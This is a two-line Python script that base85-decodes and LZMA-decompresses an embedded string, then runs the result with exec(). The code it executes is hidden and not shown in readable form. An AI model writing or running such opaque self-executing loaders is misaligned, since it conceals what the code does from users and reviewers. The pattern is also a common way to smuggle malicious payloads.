import lzma as l, base64 as b
exec(l.decompress(b.b85decode("{Wp48S^xk9=GL@E0stWa761SMbT8$j0RSU#a%paKC?{!dWpZ>NaAA3DZ((F0Z)PB2ZXjiNVQp}1WhW^B-kIIBCcg)+00BHC1t@lJAGY&-0RR9100dcD")).decode())
